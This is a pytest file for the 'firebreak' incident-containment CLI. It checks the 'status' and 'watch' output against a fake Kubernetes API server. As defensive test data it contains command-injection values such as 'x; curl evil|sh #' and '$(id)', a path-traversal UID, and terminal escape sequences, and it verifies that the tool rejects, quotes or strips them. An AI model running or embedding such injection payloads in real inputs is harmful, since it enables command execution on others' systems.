"""`firebreak status` and `watch`, the real commands against the fake API server."""

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from cli_harness import OTHER, UID, Cli, condition, cut_pod, incident, policy, write_kubeconfig
from fake_api import Answer, FakeApi, Fault
from firebreak.cli.lifting import Orphan
from firebreak.model.names import IncidentRef

SEALED = {
    "url": "s3://evidence/incidents/shop/shell-1",
    "artifacts": 14,
    "complete": 12,
    "bytes": 5 * 2**20,
    "gaps": ["logs of app: gone"],
    "seal": "ab12",
}
FULL: dict[str, Any] = {
    "phase": "Waiting",
    "observedGeneration": 1,
    "message": "Cut off since 10:00:01 (web)",
    "target": "pod/web",
    "waitingFor": "approval: rotate",
    "conditions": [condition("Contained", "True", "Enforced", "web"), condition("IdentityContained", "False", "Left")],
    "steps": {
        "rotate": {
            "state": "Waiting",
            "startedAt": "2026-01-05T10:00:01.000000Z",
            "finishedAt": "2026-01-05T10:00:01.250000Z",
            "counts": {"Waiting": 1},
            "digest": f"sha256:{'a' * 64}",
            "changes": {
                "patch Secret shop/db": {
                    "object": "Secret shop/db",
                    "verb": "patch",
                    "why": "in reach",
                    "risk": "not reversible",
                    "undo": "none",
                    "state": "Waiting",
                }
            },
        }
    },
    "evidence": SEALED,
    "timings": {
        "seenAt": "2026-01-05T10:00:00.012000Z",
        "cutAt": "2026-01-05T10:00:00.020500Z",
        "containedAt": "2026-01-05T10:00:00.100000Z",
    },
}


@pytest.fixture
def cli(fake: FakeApi, tmp_path: Path) -> Cli:
    return Cli(write_kubeconfig(tmp_path, fake.url, "shop"))


def cells(text: str) -> list[list[str]]:
    return [line.split() for line in text.splitlines()]


async def test_the_table_is_the_one_of_kubectl(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={**FULL, "waitingFor": "approval"}))
    ran = await cli("status")
    assert (ran.code, ran.err) == (0, "")
    head, row = cells(ran.out)
    assert head == ["NAME", "TARGET", "CONTAINED", "EVIDENCE", "IDENTITY", "WAITING-FOR", "AGE"]
    assert row[:-1] == ["shell", "pod/web", "True", "False", "approval"]


async def test_nothing_there_is_said_in_words(cli: Cli) -> None:
    ran = await cli("status", "-n", "empty")
    assert (ran.code, ran.out) == (0, "no incident in namespace empty\n")


async def test_all_namespaces_have_a_column(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status=FULL))
    elsewhere = incident("other", OTHER)
    elsewhere["metadata"]["namespace"] = "bank"
    fake.put(elsewhere)
    ran = await cli("status", "-A")
    assert [row[:2] for row in cells(ran.out)] == [["NAMESPACE", "NAME"], ["bank", "other"], ["shop", "shell"]]


async def test_a_quarantine_without_its_incident_is_named_with_its_release(fake: FakeApi, cli: Cli) -> None:
    fake.put(policy("shell", UID))
    fake.put(policy("kept", OTHER))
    fake.put(incident("kept", OTHER))
    ran = await cli("status", "-o", "json")
    assert ran.json["orphans"] == [
        {
            "namespace": "shop",
            "incident": "shell",
            "uid": UID,
            "policy": f"firebreak-{UID}",
            "release": f"firebreak release shell -n shop --uid {UID}",
        }
    ]
    shown = await cli("status")
    assert f"firebreak release shell -n shop --uid {UID}" in shown.out


@pytest.mark.parametrize(
    ("name", "uid"),
    [
        ("x; curl evil|sh #", UID),
        ("$(id)", UID),
        ("--help", UID),
        ("x\n", UID),
        ("x" * 254, UID),
        ("", UID),
        ("x", "../web"),
        ("x", f"{UID}.x"),
        ("x", "probe-1"),
    ],
)
async def test_a_policy_that_no_incident_can_have_left_prints_no_command(
    fake: FakeApi, cli: Cli, name: str, uid: str
) -> None:
    fake.put(policy(name, uid))
    ran = await cli("status", "-o", "json")
    assert (ran.code, ran.json["orphans"]) == (0, [])
    shown = await cli("status")
    assert "release" not in shown.out


def test_the_command_that_lifts_an_orphan_is_quoted_for_a_shell() -> None:
    orphan = Orphan(IncidentRef("shop", "x; curl evil|sh #", "$(id)"), "firebreak-x")
    assert orphan.command == "firebreak release 'x; curl evil|sh #' -n shop --uid '$(id)'"


async def test_who_may_not_read_policies_is_told_that_orphans_are_unknown(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status=FULL))
    fake.faults.add(Fault(when=lambda call: call.resource.startswith("networkpolicies"), how=Answer(403)))
    ran = await cli("status")
    assert ran.code == 0
    assert ran.err.startswith("whether quarantines are left without an incident is unknown")


async def test_one_incident_is_shown_whole(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status=FULL, reason="shell spawned"))
    fake.put(cut_pod())
    fake.put(policy())
    ran = await cli("status", "shell")
    lines = [line.rstrip() for line in ran.out.splitlines()]
    assert ran.code == 0
    assert lines[:4] == [
        "shop/shell: pod/web, Waiting, mode Respond",
        "Cut off since 10:00:01 (web)",
        "Why: shell spawned",
        f"Quarantine: web under policy firebreak-{UID}",
    ]
    for expected in (
        "  rotate  Waiting  10:00:01  250.0 ms  1 Waiting",
        "  patch Secret shop/db: Waiting",
        "    why   in reach",
        "    risk  not reversible",
        "  s3://evidence/incidents/shop/shell-1",
        "  12 of 14 artifacts complete, 5.0 MiB",
        "  seal ab12",
        "  gap: logs of app: gone",
        "  seen       2026-01-05T10:00:00.012000Z  12.0 ms (creation is kept in whole seconds)",
        "  cut        2026-01-05T10:00:00.020500Z  8.5 ms",
        "  contained  2026-01-05T10:00:00.100000Z  79.5 ms",
    ):
        assert expected in lines
    assert lines[lines.index("  To let them run:") + 1] == "    firebreak approve shell rotate -n shop"


async def test_a_record_that_says_cut_does_not_hide_that_the_policy_is_gone(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status=FULL))
    fake.put(cut_pod())
    ran = await cli("status", "shell", "-o", "yaml")
    assert "quarantine: 'web labelled, but the policy is gone: NOT cut'" in ran.out


async def test_an_incident_that_is_not_there_says_where_to_look(cli: Cli) -> None:
    ran = await cli("status", "none")
    assert (ran.code, ran.out) == (1, "")
    assert ran.err.startswith("error: there is no incident none in namespace shop\nnext:  see which there are")


async def test_what_came_from_an_attacker_cannot_speak_to_the_terminal(fake: FakeApi, cli: Cli) -> None:
    message = "gone\x1b[2J\x07 [bold]x[/bold] [link=http://x]y[/link]\r\nerased\u202etxt"
    fake.put(incident(status={**FULL, "message": message}, reason="\x1b]0;owned\x07"))
    ran = await cli("status", "shell")
    assert "gone?[2J? [bold]x[/bold] [link=http://x]y[/link]  erased?txt\n" in ran.out
    assert not {"\x1b", "\x07", "\r", "\u202e"} & set(ran.out)
    raw = await cli("status", "shell", "-o", "json")
    assert raw.json["status"]["message"] == message
    assert not {"\x1b", "\x07", "\r", "\u202e"} & set(raw.out)


async def test_an_api_server_that_is_away_is_told_apart_from_a_refusal(tmp_path: Path) -> None:
    config = write_kubeconfig(tmp_path, "http://127.0.0.1:9", "shop")
    ran = await Cli(config)("status")
    assert ran.code == 4
    assert ran.err.startswith("error: GET /apis/firebreak.dev/v1alpha1/namespaces/shop/incidents: no answer")


async def test_watch_prints_a_line_for_each_change_and_ends_at_rest(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={"phase": "Containing", "observedGeneration": 1}))
    watching = asyncio.create_task(cli("watch", "shell"))
    async with asyncio.timeout(10):
        await fake.called(lambda call: call.verb == "watch")
        fake.update("Incident", "shop", "shell", {"status": FULL})
        ran = await watching
    assert (ran.code, ran.err) == (0, "")
    assert ran.out == (
        "shop/shell  Containing\n"
        "shop/shell  Waiting  Contained=True  IdentityContained=False  Cut off since 10:00:01 (web)\n"
    )


async def test_watch_writes_one_json_object_for_each_change(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={"phase": "Responded", "observedGeneration": 1}))
    ran = await cli("watch", "shell", "-o", "json")
    assert [json.loads(line)["status"]["phase"] for line in ran.out.splitlines()] == ["Responded"]


async def test_watch_ends_with_a_failure_when_the_incident_stalls(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={"phase": "Stalled", "observedGeneration": 1, "message": "no rights"}))
    ran = await cli("watch", "shell")
    assert (ran.code, ran.out) == (1, "shop/shell  Stalled  no rights\n")
    assert ran.err == "error: incident shop/shell is stalled\nnext:  firebreak status shell -n shop\n"


async def test_watch_goes_on_when_the_server_ends_or_forgets_the_watch(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={"phase": "Containing"}))
    watching = asyncio.create_task(cli("watch", "shell"))
    async with asyncio.timeout(10):
        await fake.called(lambda call: call.verb == "watch")
        fake.expire_watches("incidents")
        await fake.called(lambda call: call.verb == "watch", times=2)
        fake.drop_watches("incidents")
        await fake.called(lambda call: call.verb == "watch", times=3)
        fake.update("Incident", "shop", "shell", {"status": {"phase": "Closed", "observedGeneration": 1}})
        ran = await watching
    assert (ran.code, ran.out) == (0, "shop/shell  Containing\nshop/shell  Closed\n")


async def test_a_deleted_incident_ends_the_watch(fake: FakeApi, cli: Cli) -> None:
    fake.put(incident(status={"phase": "Containing"}))
    watching = asyncio.create_task(cli("watch", "shell"))
    async with asyncio.timeout(10):
        await fake.called(lambda call: call.verb == "watch")
        fake.delete("Incident", "shop", "shell")
        ran = await watching
    assert ran.code == 1
    assert "incident shop/shell was deleted; its quarantine, if any, stays" in ran.err
